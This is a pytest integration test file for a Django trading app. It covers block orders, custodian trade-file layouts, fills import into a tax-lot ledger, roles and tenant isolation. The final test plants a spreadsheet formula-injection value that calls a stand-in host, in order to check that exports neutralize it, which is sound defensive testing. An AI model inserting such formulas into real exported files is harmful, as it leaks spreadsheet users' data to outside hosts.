"""After approval: block orders, custodian trade files, fills into the ledger; roles; tenancy.

End to end in-process: run → approve (``proposals_decide``) → ``orders_create_from_approved``
→ ``trade_file_generate`` → ``fills_import`` → lots and realized gains from the tax-lot engine.
"""

import csv
import io
from decimal import Decimal
from hashlib import sha256
from unittest import mock

import pytest
from django_tenants.utils import schema_context

from apps.access.models import AuditEvent
from apps.access.roles import Role
from apps.accounts.models import RealizedGain, TaxLot, Transaction
from apps.accounts.services.ledger import household_replay
from apps.common.exceptions import ApplicationError
from apps.common.money import round_money
from apps.ingest.problems import FileRejectedError
from apps.trading.models import (
    FillImport,
    Order,
    OrderAllocation,
    OrderStatus,
    Proposal,
    ProposalStatus,
    RunMode,
    RunScope,
    TradeFile,
)
from apps.trading.orders.selectors import allocation_list_for_order, order_list
from apps.trading.services.fills import fills_import
from apps.trading.services.orders import orders_create_from_approved
from apps.trading.services.review import proposals_decide
from apps.trading.services.runs import (
    rebalance_chunk_execute,
    rebalance_run_create,
    rebalance_run_start,
)
from apps.trading.services.trade_files import (
    FIDELITY_COLUMNS,
    GENERIC_COLUMNS,
    SCHWAB_COLUMNS,
    trade_file_content,
    trade_file_generate,
    trade_file_render,
)
from tests.conftest import api_client, login_client
from tests.integration.trading.conftest import AS_OF

GENERIC_FILLS_HEADER = "allocation_id,account_number,symbol,side,shares,price,trade_date\n"


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)


@pytest.fixture
def trader(firms):
    return firms["a"].users[Role.TRADER]


@pytest.fixture
def approved(run_book, trader):
    """A completed run over the model's accounts with every proposal approved."""
    run = rebalance_run_create(
        scope=RunScope.MODEL,
        scope_ids=[run_book["model"].pk],
        mode=RunMode.FULL_REBALANCE,
        as_of=AS_OF,
        requested_by=trader,
    )
    for chunk in rebalance_run_start(run_id=run.pk):
        rebalance_chunk_execute(run_id=run.pk, chunk=chunk)
    pending = list(
        Proposal.objects.filter(run=run, status=ProposalStatus.PENDING_APPROVAL).values_list(
            "pk", flat=True
        )
    )
    assert len(pending) == 2  # the legacy account and the new money (no-basis one skipped)
    proposals_decide(proposal_ids=pending, approve=True, acting_user=trader)
    return {**run_book, "run": run}


def _csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"))))


def _fills_csv(rows: list[tuple]) -> bytes:
    lines = [GENERIC_FILLS_HEADER]
    lines += [",".join(str(v) for v in row) + "\n" for row in rows]
    return "".join(lines).encode()


# --- block orders --------------------------------------------------------------------------------


def test_approved_proposals_become_block_orders_once(approved, trader):
    orders = orders_create_from_approved(acting_user=trader).orders

    keys = [(o.custodian, o.symbol, o.side) for o in orders]
    assert len(keys) == len(set(keys))  # one block per (custodian, symbol, side)
    allocations = OrderAllocation.objects.select_related("proposed_trade", "account")
    assert allocations.count() == sum(
        p.trades.count() for p in Proposal.objects.filter(run=approved["run"])
    )
    for order in orders:
        mine = allocation_list_for_order(order=order)
        assert order.total_shares == sum(a.shares for a in mine)
        assert all(a.proposed_trade.symbol == order.symbol for a in mine)
    # Two accounts buying the same name make one block with two allocations.
    shared = [
        o
        for o in orders
        if o.side == "buy"
        and {a.account_id for a in o.allocations.all()}
        == {
            approved["legacy"].pk,
            approved["cash_only"].pk,
        }
    ]
    assert shared, "the legacy account and the new money both buy some name"
    assert shared[0].allocations.count() == 2
    # Sells carry the proposal's lot (specific identification).
    sells = allocations.filter(order__side="sell")
    assert sells.exists()
    for allocation in sells:
        assert allocation.lot_instructions == [
            {"lot_id": allocation.proposed_trade.lot_key, "shares": str(allocation.shares)}
        ]
    assert set(Proposal.objects.values_list("status", flat=True)) == {ProposalStatus.ORDERED}
    assert AuditEvent.objects.filter(action="order.create").count() == len(orders)

    # Again: nothing new (proposals are ordered; a trade is allocated once).
    assert orders_create_from_approved(acting_user=trader).orders == []
    assert Order.objects.count() == len(orders)


@pytest.fixture
def _one_id_per_query(monkeypatch):
    from apps.common import bulk

    monkeypatch.setattr(bulk, "IDS_PER_QUERY", 1)


@pytest.mark.usefixtures("_one_id_per_query")  # before ``approved``: its approval batches too
def test_decisions_and_orders_read_ids_in_batches(approved, trader):
    """A statement binds at most 65,535 parameters: approvals and order creation read proposals
    and trades in batches (``common.bulk.id_batches``); one id per batch gives the same result."""
    orders = orders_create_from_approved(acting_user=trader).orders
    proposals = Proposal.objects.filter(run=approved["run"]).exclude(status="no_trades")
    assert {p.status for p in proposals} == {ProposalStatus.ORDERED} and len(proposals) == 2
    assert OrderAllocation.objects.count() == sum(p.trades.count() for p in proposals) > 0
    assert sum(o.total_shares for o in orders) == sum(
        t.shares for p in proposals for t in p.trades.all()
    )


def test_a_killed_worker_mid_order_creation_leaves_no_duplicate(approved, trader):
    from apps.trading.services import orders as orders_service

    real = orders_service.audit_event_record

    def dies_on_proposals(**kwargs):
        if kwargs["action"] == "proposal.order":
            raise SystemExit("worker killed")
        return real(**kwargs)

    with (
        mock.patch.object(orders_service, "audit_event_record", dies_on_proposals),
        pytest.raises(SystemExit),
    ):
        orders_create_from_approved(acting_user=trader)
    assert not Order.objects.exists()
    assert not OrderAllocation.objects.exists()
    assert Proposal.objects.filter(status=ProposalStatus.APPROVED).count() == 2

    orders = orders_create_from_approved(acting_user=trader).orders  # the redelivered task
    assert orders
    assert (
        OrderAllocation.objects.count()
        == OrderAllocation.objects.values("proposed_trade").distinct().count()
    )


# --- trade files ---------------------------------------------------------------------------------


def test_trade_files_in_three_layouts_with_lot_instructions(approved, trader):
    orders_create_from_approved(acting_user=trader)
    allocations = sorted(
        OrderAllocation.objects.select_related("account", "order"), key=lambda a: a.pk
    )
    by_ref = {f"A{a.pk}": a for a in allocations}
    lots = {
        (lot.account_id, lot.lot_key): lot
        for lot in TaxLot.objects.filter(account=approved["legacy"])
    }

    content, lines = trade_file_render(allocations=allocations, layout="generic")
    rows = _csv_rows(content)
    assert tuple(rows[0].keys()) == GENERIC_COLUMNS
    assert lines == len(rows) == len(allocations)
    for row in rows:
        allocation = next(a for a in allocations if str(a.pk) == row["allocation_id"])
        assert row["account_number"] == allocation.account.number
        assert (row["side"], row["symbol"]) == (allocation.order.side, allocation.order.symbol)
        assert Decimal(row["shares"]) == allocation.shares
        if allocation.order.side == "sell":
            lot_id, shares = row["lot_instructions"].split(":")
            assert lot_id == allocation.proposed_trade.lot_key
            assert Decimal(shares) == allocation.shares
            assert row["cost_basis_method"] == "Specified Lots"
        else:
            assert row["lot_instructions"] == row["cost_basis_method"] == ""

    content, lines = trade_file_render(allocations=allocations, layout="schwab")
    rows = _csv_rows(content)
    assert tuple(rows[0].keys()) == SCHWAB_COLUMNS
    assert lines == len(allocations)  # one lot per sell allocation: one line each
    for row in rows:
        allocation = by_ref[row["Client Reference"]]
        assert row["Account Number"] == allocation.account.number
        assert row["Action"] == allocation.order.side.title()
        assert (row["Order Type"], row["Time In Force"]) == ("Market", "Day")
        if allocation.order.side == "sell":
            lot = lots[(allocation.account_id, allocation.proposed_trade.lot_key)]
            assert row["Cost Basis Method"] == "Specified Lots"
            assert row["VSP Open Date"] == lot.acquired_on.strftime("%m/%d/%Y")
            assert Decimal(row["VSP Quantity"]) == allocation.shares
            assert Decimal(row["VSP Unit Cost"]) == (lot.cost_basis_amount / lot.shares).quantize(
                Decimal("0.000001")
            )
        else:
            assert row["Cost Basis Method"] == row["VSP Open Date"] == ""

    content, lines = trade_file_render(allocations=allocations, layout="fidelity")
    rows = _csv_rows(content)
    assert tuple(rows[0].keys()) == FIDELITY_COLUMNS
    for row in rows:
        allocation = by_ref[row["Client Reference"]]
        assert row["Order Action"] == ("S" if allocation.order.side == "sell" else "B")
        assert (row["Account Type"], row["Price Type"], row["Time In Force"]) == ("", "M", "D")
        assert row["Stop Price/Limit Price"] == ""
        if allocation.order.side == "sell":
            assert Decimal(row["Tax Lot Quantity"]) == allocation.shares
            assert row["Tax Lot Acquired Date"]
            assert row["Cost Basis Method"] == "Specified Lots"
        else:
            assert row["Cost Basis Method"] == row["Tax Lot Acquired Date"] == ""


def test_generating_twice_never_duplicates_lines(approved, trader):
    orders = orders_create_from_approved(acting_user=trader).orders
    trade_file = trade_file_generate(custodian="schwab", layout="generic", acting_user=trader)

    assert trade_file.line_count == OrderAllocation.objects.count()
    assert trade_file.order_count == len(orders)
    assert set(Order.objects.values_list("status", flat=True)) == {OrderStatus.SENT}
    assert set(Order.objects.values_list("trade_file", flat=True)) == {trade_file.pk}
    stored = trade_file_content(trade_file=trade_file)
    assert len(_csv_rows(stored)) == trade_file.line_count
    assert sha256(stored).hexdigest() == trade_file.sha256
    assert trade_file.storage_name.startswith("trade-files/")

    with pytest.raises(ApplicationError) as refused:
        trade_file_generate(custodian="schwab", layout="schwab", acting_user=trader)
    assert refused.value.code == "trade_file_nothing_to_send"
    assert TradeFile.objects.count() == 1


def test_a_killed_worker_mid_generation_sends_nothing(approved, trader):
    from apps.trading.services import trade_files as service

    orders_create_from_approved(acting_user=trader)
    with (
        mock.patch.object(service, "audit_event_record", side_effect=SystemExit("killed")),
        pytest.raises(SystemExit),
    ):
        trade_file_generate(custodian="schwab", layout="generic", acting_user=trader)
    assert not TradeFile.objects.exists()
    assert set(Order.objects.values_list("status", flat=True)) == {OrderStatus.OPEN}
    trade_file = trade_file_generate(custodian="schwab", layout="generic", acting_user=trader)
    assert trade_file.line_count == OrderAllocation.objects.count()


# --- fills ---------------------------------------------------------------------------------------


@pytest.fixture
def sent(approved, trader):
    orders_create_from_approved(acting_user=trader)
    trade_file = trade_file_generate(custodian="schwab", layout="generic", acting_user=trader)
    allocations = list(
        OrderAllocation.objects.select_related("account", "order", "proposed_trade").order_by("pk")
    )
    return {**approved, "trade_file": trade_file, "allocations": allocations}


def _fill_rows(allocations, *, partial_ids=(), price_bump=Decimal("0.01")):
    rows = []
    for a in allocations:
        shares = a.shares
        if a.pk in partial_ids:
            shares = (a.shares / 2).to_integral_value(rounding="ROUND_DOWN") or Decimal(1)
        price = a.proposed_trade.price + price_bump
        rows.append((a.pk, a.account.number, a.order.symbol, a.order.side, shares, price, AS_OF))
    return rows


def test_fills_update_lots_and_realized_gains_through_the_engine(sent, trader):
    allocations = sent["allocations"]
    sells = [a for a in allocations if a.order.side == "sell"]
    buys = [a for a in allocations if a.order.side == "buy"]
    partial_sell = max(sells, key=lambda a: a.shares)
    partial_buy = next(b for b in buys if b.shares > 1)
    rows = _fill_rows(allocations, partial_ids={partial_sell.pk, partial_buy.pk})
    content = _fills_csv(rows)
    lots_before = {
        (lot.account_id, lot.lot_key): lot.shares
        for lot in TaxLot.objects.filter(account=sent["legacy"])
    }

    report = fills_import(content=content, filename="fills-1.csv", acting_user=trader)

    assert report.is_applied
    assert report.fills_applied == len(allocations)
    assert report.households == ("H-RUN",)
    for row in rows:
        allocation_id, _, symbol, side, shares, price, _ = row
        entry = Transaction.objects.get(external_id=f"fill:{allocation_id}:1")
        assert (entry.kind, entry.symbol, entry.shares, entry.trade_on) == (
            side,
            symbol,
            shares,
            AS_OF,
        )
        assert entry.amount == round_money(shares * price)
    # Sells relieve exactly the instructed lots, by the filled shares.
    for sell in sells:
        filled = next(r[4] for r in rows if r[0] == sell.pk)
        lot_key = sell.proposed_trade.lot_key
        entry = Transaction.objects.get(external_id=f"fill:{sell.pk}:1")
        assert entry.lot_picks == [{"lot_id": lot_key, "shares": str(filled)}]
        gains = RealizedGain.objects.filter(sell=entry)
        assert [(g.lot_key, g.shares) for g in gains] == [(lot_key, filled)]
        left = lots_before[(sell.account_id, lot_key)] - filled
        now = sum(
            lot.shares for lot in TaxLot.objects.filter(account=sell.account, lot_key=lot_key)
        )
        assert now == left
    # The stored lots and gains are what the tax-lot engine gives for the ledger.
    result, _ = household_replay(household=sent["legacy"].household)
    assert sorted(
        (str(lot.account), lot.symbol, lot.quantity) for lot in result.lots_open
    ) == sorted((str(lot.account_id), lot.symbol, lot.shares) for lot in TaxLot.objects.all())
    assert sorted(r.reportable_gain_loss for r in result.realized) == sorted(
        RealizedGain.objects.values_list("reportable_gain_amount", flat=True)
    )
    # Statuses: the partially filled ones and the rest.
    for allocation in (partial_sell, partial_buy):
        allocation.refresh_from_db()
        assert 0 < allocation.filled_shares < allocation.shares
        assert allocation.order.__class__.objects.get(pk=allocation.order_id).status == (
            OrderStatus.PARTIALLY_FILLED
        )
    full = [a for a in allocations if a.pk not in {partial_sell.pk, partial_buy.pk}]
    for allocation in full:
        allocation.refresh_from_db()
        assert allocation.filled_shares == allocation.shares

    # Re-importing the same file changes nothing.
    counts = (Transaction.objects.count(), TaxLot.objects.count(), RealizedGain.objects.count())
    again = fills_import(content=content, filename="fills-1-again.csv", acting_user=trader)
    assert again.is_duplicate
    assert not again.is_applied
    assert (
        Transaction.objects.count(),
        TaxLot.objects.count(),
        RealizedGain.objects.count(),
    ) == counts
    assert FillImport.objects.count() == 1

    # The rest of the partial fills, matched by (account, symbol, side): orders become filled.
    rest = []
    for allocation in (partial_sell, partial_buy):
        allocation.refresh_from_db()
        rest.append(
            (
                "",
                allocation.account.number,
                allocation.order.symbol,
                allocation.order.side,
                allocation.remaining_shares,
                allocation.proposed_trade.price,
                AS_OF,
            )
        )
    fills_import(content=_fills_csv(rest), filename="fills-2.csv", acting_user=trader)
    assert Transaction.objects.filter(external_id=f"fill:{partial_sell.pk}:2").exists()
    assert set(Order.objects.values_list("status", flat=True)) == {OrderStatus.FILLED}
    second = Transaction.objects.get(external_id=f"fill:{partial_sell.pk}:2")
    assert second.lot_picks == [
        {"lot_id": partial_sell.proposed_trade.lot_key, "shares": str(rest[0][4])}
    ]


def test_a_bad_fills_file_applies_nothing_and_reports_every_line(sent, trader):
    allocations = sent["allocations"]
    buy = next(a for a in allocations if a.order.side == "buy")
    sell = next(a for a in allocations if a.order.side == "sell")
    content = (
        GENERIC_FILLS_HEADER
        + f"{buy.pk},{buy.account.number},{buy.order.symbol},buy,1,10.00,{AS_OF}\n"  # fine
        + f"999999,{buy.account.number},{buy.order.symbol},buy,1,10,{AS_OF}\n"
        + f"{sell.pk},{sell.account.number},{sell.order.symbol},sell,{sell.shares + 1},10,"
        f"{AS_OF}\n"
        + f"{buy.pk},{buy.account.number},{buy.order.symbol},buy,abc,10,{AS_OF}\n"
        + f"{buy.pk},{buy.account.number},{buy.order.symbol},buy,1,10,28/06/2024\n"
        + f"{buy.pk},{buy.account.number},{buy.order.symbol},hold,1,-3,{AS_OF}\n"
        + f",{buy.account.number},ZZZZ,buy,1,10,{AS_OF}\n"
    ).encode()
    before = (Transaction.objects.count(), list(OrderAllocation.objects.values("filled_shares")))

    with pytest.raises(FileRejectedError) as rejected:
        fills_import(content=content, filename="bad.csv", acting_user=trader)

    lines = rejected.value.report.lines()
    assert "line 3: allocation_id: unknown allocation 999999" in lines
    assert any(line.startswith("line 4: shares: overfill") for line in lines)
    assert "line 5: shares: 'abc' is not a positive number" in lines
    assert "line 6: trade_date: '28/06/2024' is not a date (YYYY-MM-DD)" in lines
    assert any(line.startswith("line 7: side:") for line in lines)
    assert any(line.startswith("line 7: price:") for line in lines)
    assert any(line.startswith("line 8: account_number: no allocation") for line in lines)
    assert not any(line.startswith("line 2") for line in lines)
    assert rejected.value.extra["problems"][0]["line"] == 3
    assert (
        Transaction.objects.count(),
        list(OrderAllocation.objects.values("filled_shares")),
    ) == before
    assert not FillImport.objects.exists()


def test_fills_in_schwab_and_fidelity_shapes(sent, trader):
    allocations = sent["allocations"]
    schwab = ["Client Reference,Account Number,Action,Quantity,Symbol,Price,Trade Date"]
    fidelity = ["Account Number,Order Action,Quantity,Symbol,Average Price,Trade Date"]
    half = len(allocations) // 2
    schwab += [
        f"A{a.pk},{a.account.number},{a.order.side.title()},{a.shares},{a.order.symbol},"
        f"${a.proposed_trade.price},{AS_OF:%m/%d/%Y}"
        for a in allocations[:half]
    ]
    fidelity += [
        f"{a.account.number},{'S' if a.order.side == 'sell' else 'B'},{a.shares},"
        f"{a.order.symbol},{a.proposed_trade.price},{AS_OF:%m/%d/%Y}"
        for a in allocations[half:]
    ]
    first = fills_import(
        content="\r\n".join(schwab).encode(), filename="s.csv", acting_user=trader, layout="schwab"
    )
    second = fills_import(
        content="\n".join(fidelity).encode(),
        filename="f.csv",
        acting_user=trader,
        layout="fidelity",
    )
    assert first.fills_applied + second.fills_applied >= len(allocations)
    assert set(Order.objects.values_list("status", flat=True)) == {OrderStatus.FILLED}


def test_a_killed_worker_mid_fills_import_books_nothing(sent, trader):
    from apps.trading.services import fills as service

    content = _fills_csv(_fill_rows(sent["allocations"]))
    with (
        mock.patch.object(service, "ledger_rebuild", side_effect=SystemExit("killed")),
        pytest.raises(SystemExit),
    ):
        fills_import(content=content, filename="f.csv", acting_user=trader)
    assert not Transaction.objects.filter(external_id__startswith="fill:").exists()
    assert not FillImport.objects.exists()
    report = fills_import(content=content, filename="f.csv", acting_user=trader)
    assert report.fills_applied == len(sent["allocations"])


# --- pages, API, roles, tenancy ------------------------------------------------------------------


def test_trader_runs_the_workflow_through_the_api(approved, firms):
    client = api_client(firms["a"], Role.TRADER)
    created = client.post("/api/v1/orders/create/")
    assert created.status_code == 201, created.content
    assert created.json() and created.json()[0]["allocations"]
    listed = client.get("/api/v1/orders/")
    assert listed.status_code == 200
    assert listed.json()["count"] == len(created.json())

    generated = client.post(
        "/api/v1/trade-files/generate/",
        {"custodian": "schwab", "layout": "fidelity"},
        format="json",
    )
    assert generated.status_code == 201, generated.content
    download = client.get(f"/api/v1/trade-files/{generated.json()['id']}/download/")
    assert download.status_code == 200
    body = b"".join(download.streaming_content)
    assert body.startswith(b"Account Number,Account Type,Order Action")
    nothing = client.post(
        "/api/v1/trade-files/generate/", {"custodian": "schwab", "layout": "generic"}, format="json"
    )
    assert nothing.status_code == 400
    assert nothing.json()["code"] == "trade_file_nothing_to_send"

    with schema_context(firms["a"].schema):
        allocations = list(
            OrderAllocation.objects.select_related("account", "order", "proposed_trade")
        )
        content = _fills_csv(_fill_rows(allocations))
    upload = client.post(
        "/api/v1/fills/", {"file": io.BytesIO(content), "layout": "generic"}, format="multipart"
    )
    assert upload.status_code == 201, upload.content
    assert upload.json()["fills_applied"] == len(allocations)
    bad = client.post(
        "/api/v1/fills/",
        {"file": io.BytesIO(GENERIC_FILLS_HEADER.encode() + b"1,x,y,buy,1,1,2024-01-01\n")},
        format="multipart",
    )
    assert bad.status_code == 400
    assert bad.json()["code"] == "fills_rejected"
    assert bad.json()["extra"]["problems"][0]["line"] == 2


def test_viewer_and_advisor_cannot_create_orders_generate_or_upload_fills(approved, firms):
    for role in (Role.VIEWER, Role.ADVISOR):
        client = api_client(firms["a"], role)
        assert client.post("/api/v1/orders/create/").status_code == 403
        assert (
            client.post(
                "/api/v1/trade-files/generate/", {"custodian": "schwab", "layout": "generic"}
            ).status_code
            == 403
        )
        fills = client.post(
            "/api/v1/fills/",
            {"file": io.BytesIO(GENERIC_FILLS_HEADER.encode())},
            format="multipart",
        )
        assert fills.status_code == 403
        page = login_client(firms["a"], role)
        assert page.post("/orders/create/").status_code == 403
        assert page.post("/orders/fills/").status_code == 403
    with schema_context(firms["a"].schema):
        assert not Order.objects.exists()
        assert Proposal.objects.filter(status=ProposalStatus.APPROVED).count() == 2
    # A viewer may look at the orders page but sees no trader buttons.
    page = login_client(firms["a"], Role.VIEWER).get("/orders/")
    assert page.status_code == 200
    assert b"Create block orders" not in page.content


def test_trader_pages_create_generate_download_and_upload(approved, firms):
    client = login_client(firms["a"], Role.TRADER)
    page = client.get("/orders/")
    assert page.status_code == 200
    assert b"Create block orders" in page.content
    assert client.post("/orders/create/").status_code == 302
    page = client.get("/orders/")
    assert b"Generate trade file" in page.content
    response = client.post("/orders/trade-files/", {"custodian": "schwab", "layout": "schwab"})
    assert response.status_code == 302
    with schema_context(firms["a"].schema):
        trade_file = TradeFile.objects.get()
        allocations = list(
            OrderAllocation.objects.select_related("account", "order", "proposed_trade")
        )
    download = client.get(f"/orders/trade-files/{trade_file.pk}/download/")
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment;")
    assert download.content.startswith(b"Account Number,Action,Quantity")

    bad = io.BytesIO(GENERIC_FILLS_HEADER.encode() + b"1,x,y,buy,1,1,2024-13-01\n")
    bad.name = "bad.csv"
    rejected = client.post("/orders/fills/", {"layout": "generic", "file": bad})
    assert rejected.status_code == 400
    assert b"No fill was booked" in rejected.content
    assert b"is not a real date" in rejected.content

    good = io.BytesIO(_fills_csv(_fill_rows(allocations)))
    good.name = "fills.csv"
    applied = client.post("/orders/fills/", {"layout": "generic", "file": good})
    assert applied.status_code == 200
    assert b"fill(s) booked" in applied.content


def test_firm_b_cannot_see_firm_a_orders_or_trade_files(approved, firms, trader):
    orders_create_from_approved(acting_user=trader)
    trade_file = trade_file_generate(custodian="schwab", layout="generic", acting_user=trader)
    order = Order.objects.first()

    for role in (Role.TRADER, Role.FIRM_ADMIN):
        client = api_client(firms["b"], role)
        assert client.get("/api/v1/orders/").json()["count"] == 0
        assert client.get("/api/v1/trade-files/").json()["count"] == 0
        assert client.get(f"/api/v1/trade-files/{trade_file.pk}/download/").status_code == 404
        page = login_client(firms["b"], role)
        assert page.get(f"/orders/trade-files/{trade_file.pk}/download/").status_code == 404
        listing = page.get("/orders/")
        assert listing.status_code == 200
        assert trade_file.filename.encode() not in listing.content
        assert f"#{order.pk}</td>".encode() not in listing.content
    # Firm A's own trader sees them.
    assert api_client(firms["a"], Role.TRADER).get("/api/v1/orders/").json()["count"] >= 1


def test_order_list_query_count_does_not_grow_with_orders(
    approved, trader, django_assert_max_num_queries
):
    orders_create_from_approved(acting_user=trader)
    with django_assert_max_num_queries(3):
        orders = list(order_list())
        for order in orders:
            list(order.allocations.all())
            for allocation in order.allocations.all():
                _ = allocation.account.number


def _approved_with_sell(account, trader, **sell) -> Proposal:
    """The account's proposal from a run now (its account unchanged since), approved, with one
    hand-written sell instead of its own trades."""
    from apps.trading.models import ProposedTrade

    run = rebalance_run_create(
        scope=RunScope.ACCOUNT,
        scope_ids=[account.pk],
        mode=RunMode.FULL_REBALANCE,
        as_of=AS_OF,
        requested_by=trader,
    )
    for chunk in rebalance_run_start(run_id=run.pk):
        rebalance_chunk_execute(run_id=run.pk, chunk=chunk)
    proposal = Proposal.objects.get(run=run)
    proposal.trades.all().delete()
    Proposal.objects.filter(pk=proposal.pk).update(status=ProposalStatus.APPROVED)
    ProposedTrade.objects.create(proposal=proposal, side="sell", **sell)
    return proposal


def test_a_sell_fill_relieves_the_instructed_lot_not_the_oldest(run_book, trader):
    from apps.accounts.services.ledger import ledger_rebuild
    from tests.integration.accounts.conftest import entry

    legacy = run_book["legacy"]
    entry(legacy, "b-aaa-2", "buy", AS_OF.replace(month=1, day=10), "AAA", "50", "3000")
    ledger_rebuild(household=legacy.household)
    _approved_with_sell(
        legacy,
        trader,
        symbol="AAA",
        lot_key="b-aaa-2",  # the newer lot: FIFO would relieve b-aaa instead
        shares=Decimal(20),
        price=Decimal("70"),
        amount=Decimal("1400"),
        reason="harvest",
        explanation="test",
    )
    (order,) = orders_create_from_approved(acting_user=trader).orders
    trade_file_generate(custodian="schwab", layout="generic", acting_user=trader)
    allocation = order.allocations.get()
    content = _fills_csv([(allocation.pk, "R1", "AAA", "sell", 20, "70.005", AS_OF)])

    fills_import(content=content, filename="one.csv", acting_user=trader)

    sell = Transaction.objects.get(external_id=f"fill:{allocation.pk}:1")
    assert sell.amount == Decimal("1400.10")  # 20 x 70.005 = 1400.100, cents half-even
    (gain,) = RealizedGain.objects.filter(sell=sell)
    assert (gain.lot_key, gain.shares, gain.basis_amount) == ("b-aaa-2", 20, Decimal("1200.00"))
    assert gain.gain_amount == Decimal("200.10")
    assert gain.term == "short"
    remaining = dict(
        TaxLot.objects.filter(account=legacy, symbol="AAA").values_list("lot_key", "shares")
    )
    assert remaining == {"b-aaa": Decimal(400), "b-aaa-2": Decimal(30)}


def test_a_whole_share_account_sells_a_fractional_lot_entirely_through_to_the_fill(
    run_book, trader
):
    """The lot of 7.5 shares (a dividend reinvested) goes out whole and its fill is booked;
    any other fraction in a whole-share account is still refused."""
    from apps.accounts.services.ledger import ledger_rebuild
    from tests.integration.accounts.conftest import entry

    legacy = run_book["legacy"]
    assert not legacy.is_fractional_shares
    entry(legacy, "b-fff", "buy", AS_OF.replace(month=2, day=1), "FFF", "7.5", "400")
    ledger_rebuild(household=legacy.household)
    proposal = _approved_with_sell(
        legacy,
        trader,
        symbol="FFF",
        lot_key="b-fff",
        shares=Decimal("7.5"),
        price=Decimal("60"),
        amount=Decimal("450"),
        realized_gain_amount=Decimal("50"),
        term="short",
        reason="reduce_risk",
        explanation="Sell 7.5 shares of FFF from lot b-fff (the whole lot)",
    )
    (order,) = orders_create_from_approved(acting_user=trader).orders
    trade_file_generate(custodian="schwab", layout="generic", acting_user=trader)
    allocation = order.allocations.get()

    with pytest.raises(FileRejectedError) as rejected:
        fills_import(
            content=_fills_csv([(allocation.pk, "R1", "FFF", "sell", "7.25", "60", AS_OF)]),
            filename="odd.csv",
            acting_user=trader,
        )
    assert "7.25: account R1 trades whole shares" in "\n".join(rejected.value.report.lines())
    fills_import(
        content=_fills_csv([(allocation.pk, "R1", "FFF", "sell", "7", "60", AS_OF)]),
        filename="part.csv",
        acting_user=trader,
    )
    fills_import(
        content=_fills_csv([(allocation.pk, "R1", "FFF", "sell", "0.5", "60", AS_OF)]),
        filename="rest.csv",
        acting_user=trader,
    )

    assert not TaxLot.objects.filter(account=legacy, lot_key="b-fff").exists()
    allocation.refresh_from_db()
    assert (allocation.filled_shares, allocation.is_open) == (Decimal("7.5"), False)
    proposal.refresh_from_db()
    assert proposal.status == ProposalStatus.FILLED


def test_an_identifier_stored_before_the_rule_comes_out_neutralized(approved, firms):
    """A formula-leading account number inserted directly (as before imports refused them)."""
    from apps.accounts.models import Account

    hyperlink = '=HYPERLINK("http://x.test/?"&A1)'
    legacy = approved["legacy"]
    Account.objects.filter(pk=legacy.pk).update(number=hyperlink)
    client = api_client(firms["a"], Role.TRADER)
    assert client.post("/api/v1/orders/create/").status_code == 201
    generated = client.post(
        "/api/v1/trade-files/generate/", {"custodian": "schwab", "layout": "generic"}, format="json"
    )
    assert generated.status_code == 201, generated.content
    download = client.get(f"/api/v1/trade-files/{generated.json()['id']}/download/")
    body = b"".join(download.streaming_content).decode()
    numbers = {row["account_number"] for row in _csv_rows(body.encode())}
    assert "'" + hyperlink in numbers
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    assert all(row["shares"][0].isdigit() for row in _csv_rows(body.encode()))
